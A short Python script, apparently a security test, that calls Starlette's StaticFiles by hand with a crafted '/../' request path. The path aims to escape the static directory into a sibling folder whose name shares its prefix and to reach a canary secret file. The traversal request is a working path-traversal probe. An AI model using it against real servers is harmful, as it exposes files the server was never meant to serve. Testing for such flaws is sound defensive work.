"""Serve one request, without a server: ASGI by hand."""

import asyncio
import os

from starlette.staticfiles import StaticFiles

SECRET = "@@CANARY@@"
folder, name = os.path.split(SECRET)


async def receive():
    return {"type": "http.request", "body": b"", "more_body": False}


async def main():
    sent = []

    async def send(message):
        sent.append(message["type"])

    # the static folder: its path is where the other folder's path begins
    os.makedirs(folder[:-2], exist_ok=True)
    app = StaticFiles(directory=folder[:-2])
    path = "/../" + os.path.basename(folder) + "/" + name
    scope = {"type": "http", "method": "GET", "path": path, "headers": [], "query_string": b"", "root_path": ""}
    await app(scope, receive, send)
    print(sent)


asyncio.run(main())
